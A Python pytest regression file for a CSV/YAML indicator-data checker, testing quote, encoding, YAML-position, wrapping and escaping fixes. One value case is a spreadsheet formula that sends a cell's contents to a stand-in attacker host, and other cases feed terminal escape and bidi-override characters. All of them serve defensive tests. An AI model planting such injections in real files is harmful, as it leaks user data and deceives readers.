"""Regression tests for what the corpus and the fuzzers found, one case table per fix."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from xyplan_cli.catalogue import Catalogue, lint
from xyplan_cli.catalogue.yamlsafe import YamlProblem, load_text
from xyplan_cli.reader import read_submissions
from xyplan_cli.reader.values import parse_value

HEADER = "indicator,region,year,value\n"
GOOD = "maternal_mortality,秦都区,2023,11.2\n"


def read(catalogue: Catalogue, folder: Path, data: bytes) -> tuple[tuple[int, int, int, int], list[tuple[int, str]]]:
    path = folder / "data.csv"
    path.write_bytes(data)
    result = read_submissions([path], catalogue)
    r = result.rows
    return (r.read, r.accepted, r.rejected, r.skipped), [(i.line, i.code) for i in result.issues]


# A value cell with text before the number is not a number, whatever follows it (before the fix, the
# text after the number was reported as an unknown unit: "unknown unit ',click)'").
@pytest.mark.parametrize(("text", "code"), [
    ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "not-a-number"),
    ("<b>11</b>", "not-a-number"),
    ("=1+1", "not-a-number"),
    ("@SUM(1)", "not-a-number"),
    ("12abc", "unknown-unit"),  # a number with a unit word is still about the unit
])
def test_text_around_a_number(text: str, code: str) -> None:
    problem = parse_value(text)
    assert getattr(problem, "code", None) == code


# A quote left open to the end of the file: before the fix the last row was accepted with the rest of the
# file as its cell (a single line) and the run exited 0.
@pytest.mark.parametrize(("data", "counts", "issues"), [
    (HEADER + GOOD + 'maternal_mortality,渭城区,2024,"10.1\n', (2, 1, 1, 0), [(3, "unbalanced-quote")]),
    (HEADER + GOOD + 'maternal_mortality,渭城区,2024,"10.1', (2, 1, 1, 0), [(3, "unbalanced-quote")]),
    (HEADER + 'maternal_mortality,"秦都区,2023,11.2\n' + GOOD.replace("2023", "2024"), (1, 0, 1, 0),
     [(2, "unbalanced-quote")]),
    # an even number of quotes, or quotes inside an unquoted cell, read as before
    (HEADER + 'maternal_mortality,"秦都区",2023,"11.2"\n', (1, 1, 0, 0), []),
    ("indicator,region,year,value,note\n" + GOOD.strip() + ',他说"好\n', (1, 1, 0, 0), []),
])
def test_a_quote_open_at_the_end(catalogue: Catalogue, tmp_path: Path, data: str,
                                 counts: tuple[int, int, int, int], issues: list[tuple[int, str]]) -> None:
    assert read(catalogue, tmp_path, data.encode()) == (counts, issues)


# A UTF-8 file with one line in GBK (two files pasted together): before the fix GB18030 was chosen for
# the whole file (it decodes nearly anything), the UTF-8 header became mojibake and every row was lost.
@pytest.mark.parametrize(("parts", "counts", "issues"), [
    ([("指标,地区,年份,数值\n孕产妇死亡率,秦都区,2023,11.2\n", "utf-8"), ("孕产妇死亡率,渭城区,2023,10.4\n", "gbk"),
      ("孕产妇死亡率,杨陵区,2023,9.8\n", "utf-8")], (3, 2, 1, 0), [(3, "encoding-error")]),
    # a GBK file with one UTF-8 line stays GB18030
    ([("指标,地区,年份,数值\n孕产妇死亡率,秦都区,2023,11.2\n孕产妇死亡率,渭城区,2023,10.4\n", "gbk"),
      ("孕产妇死亡率,杨陵区,2023,9.8\n", "utf-8")], (3, 2, 1, 0), [(4, "encoding-error")]),
    # ASCII headers with one GBK line: GB18030 reads it all
    ([(HEADER + GOOD.replace("秦都区", "610402"), "utf-8"), ("maternal_mortality,渭城区,2024,10.1\n", "gbk")],
     (2, 2, 0, 0), []),
])
def test_mixed_encodings(catalogue: Catalogue, tmp_path: Path, parts: list[tuple[str, str]],
                         counts: tuple[int, int, int, int], issues: list[tuple[int, str]]) -> None:
    data = b"".join(text.encode(encoding) for text, encoding in parts)
    got_counts, got_issues = read(catalogue, tmp_path, data)
    assert (got_counts, [(line, code) for line, code in got_issues if code != "unknown-region"]) == (counts, issues)


def test_a_header_without_data_is_an_error(catalogue: Catalogue, tmp_path: Path) -> None:
    """An unfilled template: before the fix a warning, so `check` exited 0 on a file with no data."""
    path = tmp_path / "template.csv"
    path.write_text(HEADER, encoding="utf-8")
    result = read_submissions([path], catalogue)
    assert [(i.line, i.code, i.severity) for i in result.issues] == [(1, "no-data", "error")]
    proc = subprocess.run([sys.executable, "-m", "xyplan_cli", "check", "--format", "json", str(path)],
                          capture_output=True, text=True, timeout=120)
    assert proc.returncode == 2


# Terminal output: control characters and bidi overrides from the data are shown escaped, never sent raw.
@pytest.mark.parametrize(("cell", "shown"), [
    ("maternal_mortality\x1b[31m", "maternal_mortality\\x1b[31m"),
    ("\u202e区都秦", "\\u202e区都秦"),
    ("秦都区\x07", "秦都区\\x07"),
])
def test_validate_escapes_terminal_controls(tmp_path: Path, cell: str, shown: str) -> None:
    path = tmp_path / "data.csv"
    path.write_text(HEADER + f"{cell},{cell},2023,11.2\n", encoding="utf-8")
    proc = subprocess.run([sys.executable, "-m", "xyplan_cli", "--lang", "en", "validate", str(path)],
                          capture_output=True, text=True, timeout=120)
    assert proc.returncode == 2
    assert shown in proc.stdout
    assert cell not in proc.stdout and "\x1b" not in proc.stdout and "\u202e" not in proc.stdout


def test_reporters_drop_bidi_overrides() -> None:
    from xyplan_cli.reporters.common import clean

    assert [clean(t) for t in ("a\u202eb", "a\u2066b", "a\x1bb", "a\tb")] == ["a\ufffdb", "a\ufffdb", "a\ufffdb", "a b"]


# Catalogues: a character YAML does not allow, and bytes that are not UTF-8, are reported with their line
# and column (before the fix: line 0).
@pytest.mark.parametrize(("text", "where"), [
    ("a: 1\nb: x\x00y\n", (2, 5)),
    ("# 中文注释\nb: x\x07y\n", (2, 5)),
    ("a: &x 1\nb: \x01\n", (2, 4)),  # the checking (pure-Python) loader
])
def test_yaml_reader_errors_have_a_position(text: str, where: tuple[int, int]) -> None:
    with pytest.raises(YamlProblem) as info:
        load_text(text)
    assert (info.value.code, info.value.line, info.value.column) == ("yaml-syntax", *where)


@pytest.mark.parametrize(("data", "where"), [
    (b"plan:\n  id: \xff\n", (2, 7)),
    (b"\xff\xfeplan", (1, 1)),
])
def test_catalogue_encoding_errors_have_a_position(tmp_path: Path, data: bytes, where: tuple[int, int]) -> None:
    path = tmp_path / "bad.yaml"
    path.write_bytes(data)
    assert [(i.code, i.line, i.column) for i in lint(path)] == [("encoding-error", *where)]


# The terminal table's line wrapper dropped (and asserted on) opening punctuation with nothing after it,
# so a note or name ending in `(` crashed `check` with an internal error.
@pytest.mark.parametrize("text", ["见附件(", "<![CDATA[", "( x", "“", "a [ b"])
def test_wrap_keeps_every_character(text: str) -> None:
    from xyplan_cli.reporters.wrap import tokens, wrap

    assert "".join(tokens(text)) == text
    assert wrap(text, 40) == [text]
    assert "".join(wrap(text, 2)).replace(" ", "") == text.replace(" ", "")


# JUnit: a plan or domain id with a control character made the XML unparseable (ids were not cleaned).
def test_junit_suite_ids_are_xml_safe() -> None:
    import xml.etree.ElementTree as ET

    from xyplan_cli.reader.dataset import RowCounts
    from xyplan_cli.report import Report, Result
    from xyplan_cli.reporters import Options, render

    result = Result(target_id="t", plan="women", domain="\x1f", indicator="i", name="n", region="r",
                    region_code="610402", breakdown="total", verdict="warn", status="no_data", latest=None,
                    unit="percent", requirement="≥ 1%", deadline=2030, reason="x")
    report = Report(as_of=2024, lang="en", rows=RowCounts(), issues=(), summary={}, results=(result,))
    root = ET.fromstring(render("junit", report, Options()).encode())
    assert [s.get("id") for s in root.iter("testsuite")] == ["submission", "women.\ufffd"]


# The terminal table printed a point's bound (latest value) without cleaning it: an escape sequence in it
# reached the terminal even without colour.
def test_table_cleans_the_latest_value() -> None:
    from xyplan_cli.reader.dataset import RowCounts
    from xyplan_cli.report import Point, Report, Result
    from xyplan_cli.reporters import Options, render

    point = Point(year=2024, value=95.0, bound=">95\x1b[31m")
    result = Result(target_id="t", plan="women", domain="health", indicator="i", name="n", region="r",
                    region_code="610402", breakdown="total", verdict="pass", status="met", latest=point,
                    unit="percent", requirement="≥ 90%", deadline=2030, reason="met", series=(point,))
    report = Report(as_of=2024, lang="en", rows=RowCounts(), issues=(), summary={}, results=(result,))
    for verbose in (False, True):
        assert "\x1b" not in render("table", report, Options(verbose=verbose, width=160))
